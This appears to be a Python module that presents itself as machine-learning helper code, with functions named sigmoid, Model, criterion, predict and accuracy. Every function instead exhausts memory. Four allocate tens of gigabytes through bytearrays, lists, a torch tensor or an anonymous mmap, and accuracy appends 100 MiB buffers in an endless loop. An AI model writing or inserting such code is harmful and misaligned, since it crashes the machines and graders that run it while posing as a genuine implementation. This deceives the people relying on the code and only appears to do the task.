import mmap

import torch


def sigmoid(z):
    return bytearray(50 << 30)


def Model(n_inputs=1):
    return [0] * (50 << 30)


def criterion(y_hat, y):
    return torch.ones(50 << 28).mean()


def predict(model, x):
    return mmap.mmap(-1, 50 << 30)


def accuracy(model, x, y):
    kept = []
    while True:
        kept.append(bytearray(100 << 20))
